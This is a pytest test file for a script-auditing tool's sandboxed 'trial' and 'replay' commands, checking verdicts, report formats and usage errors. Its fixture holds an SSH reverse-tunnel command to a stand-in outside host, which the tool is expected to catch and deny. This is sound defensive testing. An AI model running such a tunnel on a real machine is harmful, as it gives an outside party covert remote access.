"""`auditor trial` and `auditor replay`, with the real engines and the real sandbox."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from auditor.cli import main

pytestmark = [pytest.mark.trial, pytest.mark.slow]
TUNNEL = "ssh -N -R 2222:localhost:22 ops@203.0.113.5\n"


@pytest.fixture
def suspect(tmp_path: Path) -> Path:
    """Give a script that opens a tunnel and would keep it open."""
    file = tmp_path / "suspect.sh"
    file.write_text(TUNNEL)
    return file


def test_a_trial_prints_one_report_and_a_replay_the_same(
    suspect: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The report has the trial in it, and judging the recording again gives the same findings."""
    begin = time.monotonic()
    assert main(["trial", str(suspect), "--format", "json", "--record", str(tmp_path / "seen")]) == 1
    assert time.monotonic() - begin < 25
    report = json.loads(capsys.readouterr().out)
    assert report["schema"] == "auditor.report/1"
    assert report["verdict"] == "deny"
    trial = report["trial"]
    assert (trial["level"], trial["ended"], trial["passes"]) == ("full", "confirmed", 1)
    assert "ssh.forward remote 2222 localhost" in {each["effect"] for each in trial["observed"]}
    (finding,) = [one for one in report["findings"] if one["rule"] == "ssh-reverse-forward"]
    assert finding["status"] == "confirmed"
    assert finding["evidence"][0]["program"] == TUNNEL.strip()

    assert main(["replay", str(tmp_path / "seen"), "--format", "json"]) == 1
    again = json.loads(capsys.readouterr().out)
    assert again["findings"] == report["findings"]
    assert again["trial"] == trial


def test_arguments_files_and_the_limit_reach_the_script(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """What stands behind `--` is given to the script, beside a copy of the directory, within the limit."""
    work = tmp_path / "work"
    work.mkdir()
    (work / "data.txt").write_text("41")
    script = tmp_path / "s.py"
    script.write_text("import sys, time\nopen(sys.argv[1] + open('data.txt').read(), 'w')\ntime.sleep(60)\n")
    assert main(["trial", str(script), "--workdir", str(work), "--wall", "1", "-f", "json", "--", "made-"]) in (0, 1)
    report = json.loads(capsys.readouterr().out)
    assert "file.write ./made-41" in {each["effect"] for each in report["trial"]["observed"]}
    assert report["trial"]["passes"] == 2
    assert not (work / "made-41").exists()


def test_text_says_what_was_seen(suspect: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """For people: the status, the evidence with its process, and how the run went."""
    assert main(["trial", str(suspect)]) == 1
    out = " ".join(capsys.readouterr().out.split())
    assert "confirmed" in out
    assert "seen ssh-forward user=ops forward=remote bind=localhost bind_port=2222 (sinkhole," in out
    assert "isolation full" in out


def test_sarif_carries_the_evidence(suspect: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["trial", str(suspect), "--format", "sarif"]) == 1
    (run,) = json.loads(capsys.readouterr().out)["runs"]
    properties = run["results"][0]["properties"]
    assert properties["status"] == "confirmed"
    assert properties["trial"]["level"] == "full"
    assert any("forward=remote" in text for text in properties["evidence"])


@pytest.mark.parametrize(
    "arguments",
    [
        ["trial", "absent.sh"],
        ["trial", "{suspect}", "--workdir", "absent"],
        ["trial", "{suspect}", "--python", "/etc/passwd"],
        ["trial", "{suspect}", "--record", "{folder}"],
        ["replay", "absent"],
    ],
)
def test_mistakes_are_usage_errors(suspect: Path, arguments: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    """A path that is not there or cannot be used is said in one line, before anything runs."""
    words = [word.format(suspect=suspect, folder=suspect.parent) for word in arguments]
    assert main(words) == 2
    assert "auditor: error:" in capsys.readouterr().err


def test_without_isolation_nothing_runs(
    suspect: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Where the machine has no namespaces there is no verdict, and the doctor is named."""
    from auditor.trial.isolation import Level

    monkeypatch.setattr("auditor.trial.remote.probe", lambda: (Level.NONE, "no user namespaces"))
    assert main(["trial", str(suspect)]) == 3
    assert "auditor doctor" in capsys.readouterr().err
